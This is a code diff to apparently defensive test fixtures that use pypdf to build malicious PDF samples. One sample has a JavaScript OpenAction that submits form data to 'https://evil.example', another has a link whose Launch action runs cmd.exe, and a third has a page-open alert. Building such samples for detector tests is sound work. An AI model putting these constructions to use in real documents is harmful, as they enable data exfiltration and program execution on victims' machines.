@@ -72,6 +72,14 @@ def _blank_writer():
     return writer
 
 
+def _action(kind: str, **entries: str):
+    """A PDF action dictionary: /S ``kind`` (/JavaScript, /Launch) and its text entries (``JS=``, ``F=``)."""
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    texts = {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
+    return DictionaryObject({NameObject("/S"): NameObject(kind), **texts})
+
+
 def pdf_with_javascript_open_action() -> bytes:
     """A one-page PDF that runs JavaScript when opened (pypdf's writer: /OpenAction + names tree)."""
     from pypdf.actions import JavaScript
@@ -83,23 +91,18 @@ def pdf_with_javascript_open_action() -> bytes:
 
 def pdf_with_hidden_open_action() -> bytes:
     """JavaScript only in /OpenAction (no names tree), stored as an indirect object."""
-    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+    from pypdf.generic import NameObject
 
     writer = _blank_writer()
-    action = DictionaryObject(
-        {
-            NameObject("/Type"): NameObject("/Action"),
-            NameObject("/S"): NameObject("/JavaScript"),
-            NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example');"),
-        }
-    )
+    action = _action("/JavaScript", JS="this.submitForm('https://evil.example');")
+    action[NameObject("/Type")] = NameObject("/Action")
     writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
     return _written(writer)
 
 
 def pdf_with_launch_link() -> bytes:
     """A link annotation on the page whose action launches a program."""
-    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject
 
     writer = _blank_writer()
     annotation = DictionaryObject(
@@ -107,9 +110,7 @@ def pdf_with_launch_link() -> bytes:
             NameObject("/Type"): NameObject("/Annot"),
             NameObject("/Subtype"): NameObject("/Link"),
             NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]),
-            NameObject("/A"): DictionaryObject(
-                {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
-            ),
+            NameObject("/A"): _action("/Launch", F="cmd.exe"),
         }
     )
     writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
@@ -118,16 +119,10 @@ def pdf_with_launch_link() -> bytes:
 
 def pdf_with_page_additional_action() -> bytes:
     """JavaScript run when the page opens (/AA /O on the page)."""
-    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+    from pypdf.generic import DictionaryObject, NameObject
 
     writer = _blank_writer()
-    writer.pages[0][NameObject("/AA")] = DictionaryObject(
-        {
-            NameObject("/O"): DictionaryObject(
-                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
-            )
-        }
-    )
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})
     return _written(writer)
 
 
